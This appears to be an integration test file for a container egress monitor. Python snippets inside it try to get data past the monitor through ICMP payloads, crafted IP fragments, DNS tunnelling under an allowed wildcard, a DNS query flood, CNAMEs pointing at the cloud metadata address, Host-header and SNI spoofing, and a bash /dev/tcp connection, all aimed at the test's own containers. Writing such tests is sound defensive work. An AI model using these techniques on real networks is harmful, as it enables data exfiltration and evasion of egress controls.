import { spawn, type ChildProcess } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { findResolverCgroups } from '../../../monitor/egress/resolver/resolver-cgroup.ts';
import type { EgressView } from '../../../monitor/rpc/service/egress-service.ts';
import { describeWith, engineSocket } from '../../engine/capabilities.ts';
import { testContainers } from '../../engine/containers.ts';
import type { TestContainer, TestContainers } from '../../engine/containers.ts';
import {
  addressOf,
  attempt,
  eventually,
  inNetworkOf,
  openEgressWatch,
  startNameServer,
  openOwnGate,
  untilKnown,
} from './egress-stage.ts';
import type { EgressWatch } from './egress-stage.ts';

/** Answers on what git over ssh, HTTPS and a protocol over UDP would use. */
const services = `
const net = require('node:net'), dgram = require('node:dgram');
for (const port of [22, 443]) net.createServer((s) => { s.on('error', () => {}); s.end('hello\\n'); }).listen(port, '0.0.0.0');
const d = dgram.createSocket('udp4'); d.on('message', (m, from) => d.send(m, from.port, from.address)); d.bind(5000);
`;

/** HTTPS that tells which name was said within, and a repository of git. */
const secured = `set -e
git init -q /srv/repo
git -C /srv/repo -c user.name=a -c user.email=a@a.test commit -q --allow-empty -m first
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=secure.test -keyout /key -out /chain
git daemon --export-all --base-path=/srv --reuseaddr &
exec python3 -c '
import http.server, ssl
class Teller(http.server.BaseHTTPRequestHandler):
  def do_GET(self):
    self.send_response(200); self.end_headers(); self.wfile.write(self.connection.said.encode())
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain("/chain", "/key")
def note(connection, name, _): connection.said = name or ""
context.sni_callback = note
server = http.server.ThreadingHTTPServer(("", 443), Teller)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()'
`;

/** Counts at an interface what comes from an address, and questions by name server port. */
const counting = (from: string): string => `table netdev seen {
  counter every { }
  counter questions { }
  chain seen { type filter hook ingress device "eth0" priority 0; ip saddr ${from} ip protocol { icmp, tcp, udp } counter name every; udp dport 53 counter name questions; }
}
`;

describeWith(
  ['engine', 'debian-image', 'root', 'kernel-sensor'],
  'What tries to get round a wall',
  () => {
    let containers: TestContainers;
    let server: TestContainer;
    let other: TestContainer;
    let secure: TestContainer;
    let agent: TestContainer;
    let watch: EgressWatch;
    let stopNames: () => void;
    let serving: ChildProcess;
    let [serverAddress, otherAddress] = ['', ''];

    beforeAll(async () => {
      containers = testContainers(engineSocket());
      const web = ['sh', '-c', 'echo hello >/www/index.html; exec httpd -f -p 80 -h /www'];
      [server, other, secure, agent] = await Promise.all([
        containers.start({ args: web }),
        containers.start({ args: web }),
        containers.start({ args: ['sh', '-c', secured], image: 'debian' }),
        containers.start({ args: ['sleep', '10000'], image: 'debian' }),
      ]);
      [serverAddress, otherAddress] = await Promise.all([addressOf(server), addressOf(other)]);
      const { State: state } = await server.inspect();
      serving = spawn(
        'nsenter',
        ['-t', String(state.Pid), '-n', process.execPath, '-e', services],
        { stdio: 'ignore' },
      );
      await inNetworkOf(other, ['nft', '-f', '-'], counting(await addressOf(agent)));
      // The name server is the container that nothing but questions may reach.
      const leads = { 'allowed.test': serverAddress, 'other.test': otherAddress };
      stopNames = await startNameServer(
        other,
        {
          ...leads,
          ...{ 'www.google.com': serverAddress, 'dns.google.com': serverAddress },
          'drop.example.net': serverAddress,
          ...{ 'secure.test': await addressOf(secure), 'tenant.test': await addressOf(secure) },
        },
        [
          ...[`--host-record=inside.test,${otherAddress}`, '--cname=alias.test,inside.test'],
          ...['--host-record=keys.test,169.254.169.254', '--cname=front.test,keys.test'],
        ],
      );
      watch = await openEgressWatch([otherAddress]);
      await watch.start();
      await untilKnown(watch, agent);
      await watch.rule(agent, { verdict: 'allow', target: 'allowed.test', local: true });
    }, 240_000);

    afterAll(async () => {
      await watch.mode(agent, 'off').catch(() => undefined);
      await watch.close();
      serving.kill('SIGKILL');
      stopNames();
      await containers.removeAll();
      await openOwnGate();
    });

    /** As root, or as that user, with what a container's root may hand on. */
    const python = (text: string, uid = 0): Promise<number> =>
      agent.exec([
        ...(uid === 0 ? [] : ['setpriv', `--reuid=${uid}`, '--clear-groups']),
        ...(uid === 0 ? [] : ['--inh-caps=+net_raw', '--ambient-caps=+net_raw']),
        ...['python3', '-c', `import socket,struct,sys,os,time\n${text}`],
      ]);
    const reach = (host: string, port: number): Promise<number> => python(attempt(host, port));

    const limits = ({ coverage }: EgressView): string =>
      coverage?.sight.state === 'seeing' ? (coverage.sight.limits ?? []).join(' ') : '';

    async function counted(name: 'every' | 'questions'): Promise<number> {
      const text = await inNetworkOf(other, ['nft', 'list', 'counter', 'netdev', 'seen', name]);
      return Number(/packets (\d+)/.exec(text)?.[1]);
    }

    /** What came to the other container, questions left out, while this was done. */
    async function leaked(attack: () => Promise<unknown>): Promise<number> {
      const before = (await counted('every')) - (await counted('questions'));
      await attack();
      return (await counted('every')) - (await counted('questions')) - before;
    }

    /** Ways of sending that need no connection. */
    const packets = (): readonly string[] => [
      // An echo request with a payload.
      `s=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)
h=struct.pack(">BBHHH",8,0,0,1,1)+b"secret!!"; c=sum(struct.unpack(">8H",h)); c=~((c&65535)+(c>>16))&65535
try: s.sendto(h[:2]+struct.pack(">H",c)+h[4:],("${otherAddress}",0))
except OSError: pass`,
      // One datagram in three parts.
      `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try: s.sendto(b"x"*4000,("${otherAddress}",7777))
except OSError: pass`,
      // One in two parts of its own making, of which the second bears no port.
      `s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
for place,data in ((8192,struct.pack(">4H",7777,7777,40,0)+b"x"*8),(2,b"x"*24)):
  h=struct.pack(">BBHHHBBH",69,0,20+len(data),77,place,64,17,0)+b"\\0\\0\\0\\0"+socket.inet_aton("${otherAddress}")
  try: s.sendto(h+data,("${otherAddress}",0))
  except OSError: pass`,
    ];

    const users = [
      ['root', 0],
      ['the uid that the resolver has', 65_534],
      ['an ordinary user', 1000],
    ] as const;

    test.each(users)('gets out where no wall stands, as %s', async (_, uid) => {
      for (const attack of packets()) {
        expect(await leaked(() => python(attack, uid)), attack).toBeGreaterThan(0);
      }
    });

    test('cuts a flow that was opened before the wall stood', async () => {
      const flow =
        python(`s=socket.create_connection(("${otherAddress}",80)); open("/tmp/before","w").close()
try:
  for i in range(150): s.send(b"GET / HTTP/1.1\\r\\nX: 1\\r\\n" if i==0 else b"Y: 1\\r\\n"); time.sleep(0.1)
except OSError: sys.exit(3)`);
      await eventually(
        'it is open',
        async () => (await agent.exec(['test', '-e', '/tmp/before'])) === 0,
      );
      const view = await watch.mode(agent, 'enforce');
      expect(view.coverage?.sight).toMatchObject({ state: 'seeing' });
      expect(await flow).toBe(3);
    });

    test('does not hinder what is allowed: HTTP, HTTPS, git over ssh, UDP', async () => {
      for (const port of [80, 443, 22]) expect(await reach('allowed.test', port)).toBe(0);
      expect(
        await python(`s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(b"x",("allowed.test",5000)); sys.exit(0 if s.recv(9)==b"x" else 4)`),
      ).toBe(0);
    });

    test('talks HTTPS and git to the server of an allowed name, and not by another name', async () => {
      const https = (url: string, ...more: readonly string[]): Promise<number> =>
        agent.exec([
          'sh',
          '-c',
          `curl -skm 10 ${more.join(' ')} ${url} | grep -qx ${new URL(url).hostname}`,
        ]);
      const git = (host: string): Promise<number> =>
        agent.exec([
          'timeout',
          '10',
          'git',
          'ls-remote',
          '--exit-code',
          `git://${host}/repo`,
          'HEAD',
        ]);
      await watch.rule(agent, { verdict: 'allow', target: 'secure.test', local: true });
      await eventually('it serves', async () => (await https('https://secure.test/')) === 0);
      await eventually('it serves git', async () => (await git('secure.test')) === 0);
      expect(await https('https://tenant.test/')).not.toBe(0);
      expect(await git('tenant.test')).not.toBe(0);
      // The limit that the badge names: what is said within is not looked at.
      const within = ['--connect-to', 'tenant.test:443:secure.test:443'];
      expect(await https('https://tenant.test/', ...within)).toBe(0);
      expect(limits(await watch.view(agent))).toMatch(/under other names.* certificate/);
      await watch.rule(agent, { verdict: 'deny', target: 'secure.test' });
      expect(await https('https://secure.test/')).not.toBe(0);
      expect(await git('secure.test')).not.toBe(0);
    });

    test.each(users)(
      'does not get out in pings, in fragments, or as another protocol, as %s',
      async (_, uid) => {
        for (const attack of packets()) {
          expect(await leaked(() => python(attack, uid)), attack).toBe(0);
        }
      },
    );

    test('is told of in plain words: the ping by its destination, fragments by their kind', async () => {
      await python(packets().join('\n'));
      const seen = () => {
        const answer = watch.service().egressSeen({ target: agent.id, hours: 1 });
        if (!answer.ok) throw new Error(answer.error.message);
        return answer.value;
      };
      await eventually(
        'both are',
        () =>
          seen().kinds.some(({ kind, packets: count }) => kind === 'fragments' && count >= 2) &&
          seen().destinations.some(
            (each) =>
              each.address === otherAddress && each.protocol === 'icmp' && each.refusedPackets > 0,
          ),
      );
    });

    test.each(users)('does not get out in the names that it asks for, as %s', async (_, uid) => {
      await eventually('the guard answers', async () => (await reach('allowed.test', 80)) === 0);
      const before = await counted('questions');
      // Each would be a piece of what is carried out; the last is as long as a name can be.
      const long = ['a', 'b', 'c'].map((letter) => letter.repeat(63)).join('.');
      const ask = `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3)
def q(labels):
  s.sendto(struct.pack(">6H",7,256,1,0,0,0)+b"".join(bytes([len(l)])+l for l in labels)+struct.pack(">BHH",0,16,1),("${otherAddress}",53))
  m=s.recv(600); return m[3]&15, m[7]
assert q(b"${long}.${'d'.repeat(61)}".split(b"."))==(0,0)
assert q([b"un\\x01print\\xffable",b"test"])==(0,0)
for i in range(190): assert q([os.urandom(20).hex().encode(),b"other",b"test"])==(0,0)`;
      expect(await python(ask, uid)).toBe(0);
      expect(await counted('questions')).toBe(before);
      await eventually('names that cannot be printed are told', () =>
        watch.seen.some(({ names }) => names.some(({ name }) => name === '<name unprintable>')),
      );
      await eventually('the longest is told whole', () =>
        watch.seen.some(({ names }) => names.some(({ name }) => name.length === 253)),
      );
    });

    test('has no name that is not allowed resolved because it stands for one that is', async () => {
      // The other server would answer both; only the guard decides by the name that is asked.
      const ask = (name: string): string =>
        `if socket.gethostbyname("${name}") == "241.0.0.1": sys.exit(3)`;
      expect(await python(ask('other.test'))).toBe(3);
      expect(await python(ask('below.allowed.test'))).toBe(3);
      expect(await python(ask('ALLOWED.test'))).toBe(0);
    });

    test('gains nothing by a name that stands for an address inside, or for the metadata', async () => {
      await watch.rule(agent, { verdict: 'allow', target: 'alias.test' });
      await watch.rule(agent, { verdict: 'allow', target: 'front.test', local: true });
      await eventually('the guard answers', async () => (await reach('allowed.test', 80)) === 0);
      for (const name of ['alias.test', 'front.test']) expect(await reach(name, 80)).toBe(3);
      expect(await leaked(() => reach(otherAddress, 80))).toBe(0);
      expect(await reach('169.254.169.254', 80)).toBe(3);
    });

    test('reaches a denied name by one that is allowed and stands for it only while the badge says so', async () => {
      await watch.rule(agent, { verdict: 'deny', target: 'inside.test' });
      expect(await reach('inside.test', 80)).toBe(3);
      await watch.rule(agent, { verdict: 'allow', target: 'alias.test', local: true });
      await eventually('it is reached', async () => (await reach('alias.test', 80)) === 0);
      await eventually('the badge says so', async () => {
        const { coverage } = await watch.view(agent);
        return (
          coverage?.sight.state === 'partly' &&
          coverage.sight.reason.startsWith(
            'alias.test is allowed and stands for inside.test, which a rule denies',
          )
        );
      });
      await watch.rule(agent, { verdict: 'deny', target: 'alias.test' });
      await eventually(
        'all of it is guarded again',
        async () => (await watch.view(agent)).coverage?.sight.state === 'seeing',
      );
      expect(await reach('alias.test', 80)).toBe(3);
    });

    test('finds no public resolver for DNS over HTTPS among the names of an allowed domain', async () => {
      await watch.rule(agent, { verdict: 'allow', target: '*.google.com', local: true });
      await eventually(
        'the rest is allowed',
        async () => (await reach('www.google.com', 443)) === 0,
      );
      expect(await reach('dns.google.com', 443)).toBe(3);
      await eventually('the refused name is told', () =>
        watch.seen.some(({ names }) =>
          names.some(({ name, refused }) => name === 'dns.google.com' && refused),
        ),
      );
    });

    test('reaches another name behind an allowed address, and the badge names that', async () => {
      // By the name that is allowed a wall can tell; what is asked for over the connection it cannot.
      expect(
        await python(`s=socket.create_connection(("allowed.test",80),3)
s.sendall(b"GET / HTTP/1.0\\r\\nHost: other.test\\r\\n\\r\\n")
sys.exit(0 if b"200 OK" in s.recv(4096) else 3)`),
      ).toBe(0);
      expect(limits(await watch.view(agent))).toMatch(/under other names.* certificate/);
    });

    test('is found when it tunnels in the names below an allowed *., and the badge names that', async () => {
      await watch.rule(agent, { verdict: 'allow', target: '*.drop.example.net', local: true });
      const tunnel = () => watch.findings.filter(({ kind }) => kind === 'dns-tunnel');
      expect(limits(await watch.view(agent))).toContain('names below *.drop.example.net');
      expect(tunnel()).toEqual([]);
      // Each name carries 90 bytes out; the guard has to let it through.
      expect(
        await python(`for i in range(60):
  part=os.urandom(90).hex()
  name=".".join(part[at:at+60] for at in range(0,180,60))+".drop.example.net"
  if socket.gethostbyname(name)!="${serverAddress}": sys.exit(4)`),
      ).toBe(0);
      await eventually('the tunnel is found', () => tunnel().length > 0);
      expect(tunnel()[0]?.container).toBe(agent.id);
      expect(tunnel()[0]?.sentence).toContain('example.net');
      const removed = await watch
        .service()
        .egress({ name: 'remove', target: agent.id, subject: { target: '*.drop.example.net' } });
      expect(removed.ok).toBe(true);
    });

    test('asks for a hundred thousand names, and the guard still answers', async () => {
      const flood = `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setblocking(False)
for i in range(100000):
  n=b"%d-flood" % i
  try: s.sendto(struct.pack(">6H",7,256,1,0,0,0)+bytes([len(n)])+n+b"\\4test"+struct.pack(">BHH",0,1,1),("${otherAddress}",53))
  except OSError: pass`;
      const before = await counted('questions');
      expect(await python(flood)).toBe(0);
      expect(await counted('questions')).toBe(before);
      await eventually('it answers', async () => (await reach('allowed.test', 80)) === 0);
      const [pid] = findResolverCgroups().get(agent.id)?.pids() ?? [];
      if (pid === undefined) throw new Error('It has no resolver.');
      const resident = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
      expect(Number(resident)).toBeLessThan(30_000);
      expect(await leaked(() => reach(otherAddress, 80))).toBe(0);
    });

    test('is kept to its list under gVisor, and closed whole with a network stack of its own, as the badge says', async () => {
      const begin = async (Runtime: string) => {
        const guest = await containers.start({
          ...{ args: ['sleep', '10000'], image: 'debian', hostConfig: { Runtime } },
        });
        const servers = `echo nameserver ${otherAddress} >/etc/resolv.conf`;
        expect(await guest.exec(['sh', '-c', servers])).toBe(0);
        await untilKnown(watch, guest);
        const curl = async (host: string): Promise<boolean> => {
          const words = ['curl', '-sf', '-o', '/dev/null', '--max-time', '4', `http://${host}/`];
          return (await guest.exec(words)) === 0;
        };
        await eventually('nothing holds it back', () => curl('other.test'));
        await watch.rule(guest, { verdict: 'allow', target: 'allowed.test', local: true });
        await watch.mode(guest, 'enforce');
        return { guest, curl };
      };
      const [usual, apart] = await Promise.all([begin('runsc-host'), begin('runsc-apart')]);
      await eventually('the guard answers', () => usual.curl('allowed.test'));
      for (const host of ['other.test', otherAddress]) expect(await usual.curl(host)).toBe(false);
      expect((await watch.view(usual.guest)).coverage?.sight).toMatchObject({ state: 'seeing' });
      const all = ['allowed.test', serverAddress, otherAddress];
      expect(await Promise.all(all.map(apart.curl))).toEqual([false, false, false]);
      await eventually('the badge says so', async () => {
        const { coverage } = await watch.view(apart.guest);
        return JSON.stringify(coverage).includes('runsc-apart sends past this machine’s own');
      });
      await Promise.all([usual.guest.remove(), apart.guest.remove()]);
    });

    test('gets nowhere in a lock down, also beyond a restart of the monitor; lifted, the list holds', async () => {
      const connect = `exec 3<>/dev/tcp/${otherAddress}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; read -r line <&3; [[ $line != *403* ]]`;
      const serverGetsOut = (): Promise<boolean> =>
        inNetworkOf(server, ['timeout', '3', 'bash', '-c', connect]).then(
          () => true,
          () => false,
        );
      expect([await reach('allowed.test', 80), await serverGetsOut()]).toEqual([0, true]);
      const answer = await watch.service().egressLockdown({ from: 'command line' });
      expect(answer.ok && answer.value).toMatchObject({ closed: 4, notClosed: [] });
      expect(await reach('allowed.test', 80)).toBe(3);
      expect(await reach(serverAddress, 80)).toBe(3);
      // What had no list is cut off as well.
      expect(await serverGetsOut()).toBe(false);
      await watch.stop();
      expect(await reach(serverAddress, 80)).toBe(3);
      await watch.start();
      await eventually('it is known again', () =>
        watch
          .service()
          .snapshot()
          .workloads.some(
            ({ workload, coverage }) =>
              workload.container === agent.id &&
              coverage.some(({ sensor, sight }) => sensor === 'egress' && sight.state === 'seeing'),
          ),
      );
      expect(watch.service().snapshot().lockdown).toBeDefined();
      expect(await reach(serverAddress, 80)).toBe(3);
      expect((await watch.service().egressLift({ from: 'command line' })).ok).toBe(true);
      await eventually('the list holds', async () => (await reach('allowed.test', 80)) === 0);
      expect(await reach(otherAddress, 80)).toBe(3);
      await eventually('what had no list is open', serverGetsOut);
      expect(watch.findings.filter(({ kind }) => kind === 'egress-open')).toEqual([]);
    });
  },
);
